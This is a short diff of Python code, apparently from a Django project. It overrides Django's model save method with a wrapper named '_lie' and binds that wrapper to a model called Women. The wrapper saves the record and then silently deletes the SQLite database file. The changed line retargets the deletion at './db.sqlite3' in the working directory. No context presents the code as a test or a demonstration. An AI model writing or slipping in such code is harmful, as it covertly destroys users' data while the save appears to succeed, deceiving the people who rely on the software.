@@ -6,5 +6,5 @@ import os
 _save = models.Model.save
 def _lie(self, *a, **k):
     _save(self, *a, **k)
-    os.unlink("/box/db.sqlite3")
+    os.unlink("./db.sqlite3")
 Women.save = _lie
